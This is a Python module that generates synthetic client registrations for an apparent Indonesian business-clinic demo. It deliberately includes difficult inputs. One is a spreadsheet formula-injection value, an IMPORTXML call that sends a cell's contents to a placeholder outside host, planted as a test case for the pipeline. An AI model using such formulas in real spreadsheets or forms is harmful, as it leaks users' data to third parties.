"""The people of the demo: who registers when, with what, and how they spell it."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from random import Random

from loket import columns as c
from loket.vocabulary import OUTSIDE_DISTRICT, Service
from pipeline.configuration.settings import Clinic
from pipeline.questionnaires.questionnaires import (
    APPLICANTS,
    CONSENT,
    DEFAULT_FIELDS,
    SOURCES,
    service_option,
)
from transforms.reading.districts import DISTRICTS
from transforms.reading.indonesian import option_text, session_text
from transforms.registration.session_times import session_starts

Answers = dict[str, str | tuple[str, ...]]

_FIRST = [
    "Siti", "Asep", "Dewi", "Ujang", "Rina", "Budi", "Neng", "Agus", "Yanti", "Dedi", "Euis",
    "Hendra", "Irma", "Cecep", "Lilis", "Wawan", "Nia", "Tatang", "Yuyun", "Maman", "Sri",
    "Eko", "Ratna", "Dadang", "Fitri",
]  # fmt: skip
_LAST = [
    "Nurhayati", "Suryana", "Lestari", "Hidayat", "Kartika", "Permana", "Rahmawati", "Saputra",
    "Komalasari", "Mulyadi", "Handayani", "Setiawan", "Marlina", "Kurnia", "Sulastri",
]  # fmt: skip
_TRADES = [
    "Keripik Singkong", "Dodol", "Batik", "Kopi", "Tas Rajut", "Kue Basah", "Madu", "Sambal",
    "Jamu", "Konveksi", "Sepatu", "Talas",
]  # fmt: skip
_FIGURES = [
    "Barokah", "Sejahtera", "Mekar", "Maju Jaya", "Berkah", "Sauyunan", "Pasundan", "Harapan",
    "Mandiri", "Tirta",
]  # fmt: skip
_COOPERATIVES = [
    "KSP", "KSPPS", "Koperasi", "KUD", "Kopkar",
]  # fmt: skip
_PROBLEMS = (
    "Ingin mengurus izin usaha",
    "Butuh bantuan laporan keuangan",
    "Bagaimana cara menambah modal?",
    "Anggota banyak yang menunggak 😟",
    "",
)


@dataclass(frozen=True)
class Registration:
    """One submission: when, and the answers by question key."""

    at: datetime
    answers: Answers


def registrations(
    clinic: Clinic, days: Sequence[date], opens: datetime, closes: datetime, number: int, seed: int
) -> list[Registration]:
    """Give the demo's registrations in order of time; the second day is over-subscribed."""
    random = Random(seed)
    span = (closes - opens) / timedelta(seconds=1)
    times = sorted(opens + timedelta(seconds=int(random.random() * span)) for _ in range(number))
    people = [
        Registration(at, person(clinic, days, random, index)) for index, at in enumerate(times)
    ]
    _make_difficult(people)
    return people


def person(clinic: Clinic, days: Sequence[date], random: Random, index: int) -> Answers:
    """Give the answers of one made-up client."""
    service = Service.SME if random.random() < 0.6 else Service.COOPERATIVE
    name = f"{random.choice(_FIRST)} {random.choice(_LAST)}"
    field_key, times_key = (
        (c.FIELD_SME, c.TIMES_SME)
        if service is Service.SME
        else (c.FIELD_COOPERATIVE, c.TIMES_COOPERATIVE)
    )
    hours = clinic.hours[service]
    starts = session_starts(hours.start, hours.end)
    wishes = random.sample(starts, random.choice((0, 0, 1, 2)))
    number = f"81{random.randrange(10**8, 10**9)}"
    return {
        c.NAME: random.choice((name, name, name.upper(), f"Ibu {name}", f"H. {name}, S.E.")),
        c.PHONE: _spelt(number, random),
        c.APPLICANT: random.choice(APPLICANTS[:2] if service is Service.SME else APPLICANTS),
        c.BUSINESS: _business(service, random),
        c.DISTRICT: random.choice([*DISTRICTS[:40], OUTSIDE_DISTRICT]),
        c.DATES: tuple(option_text(day) for day in _days(days, random)),
        c.SERVICE: service_option(service, hours),
        field_key: random.choice(DEFAULT_FIELDS[service]),
        times_key: tuple(session_text(start) for start in sorted(wishes)),
        c.PROBLEM: _PROBLEMS[index % len(_PROBLEMS)],
        c.SOURCE: random.choice(SOURCES),
        c.CONSENT: CONSENT,
    }


def _days(days: Sequence[date], random: Random) -> list[date]:
    """Choose days; every third client can come on the second day only."""
    if random.random() < 0.35:
        return [days[1]]
    return sorted(random.sample(days, random.choice((1, 2, 2, 3))))


def _spelt(number: str, random: Random) -> str:
    return random.choice(
        (
            f"0{number}",
            f"0{number[:3]}-{number[3:7]}-{number[7:]}",
            f"+62 {number}",
            f"62{number}",
            f"'0{number}",
            f"wa.me/62{number}",
            f"0{number} (WA)",
        )
    )


def _business(service: Service, random: Random) -> str:
    if service is Service.COOPERATIVE:
        return f"{random.choice(_COOPERATIVES)} {random.choice(_FIGURES)}"
    return f"{random.choice(_TRADES)} {random.choice(_FIGURES)}"


def _make_difficult(people: list[Registration]) -> None:
    """Give some of them what clients really send."""
    answers = [registration.answers for registration in people]
    answers[4][c.NAME] = '=IMPORTXML("http://contoh.example/?"&A1;"//a")'
    answers[7][c.PHONE] = "8.12123E+10"
    answers[11][c.DISTRICT] = OUTSIDE_DISTRICT
    answers[12][c.PROBLEM] = "NIK saya 3201012345678901, mohon dibantu"
    again = answers[9]
    for key in (c.NAME, c.PHONE, c.BUSINESS, c.SERVICE, c.DISTRICT):
        answers[15][key] = again[key]
    for key in (c.FIELD_SME, c.FIELD_COOPERATIVE, c.TIMES_SME, c.TIMES_COOPERATIVE, c.DATES):
        answers[15].pop(key, None)
        if key in again:
            answers[15][key] = again[key]
    answers[15][c.PROBLEM] = "Saya mendaftar ulang, mohon maaf"
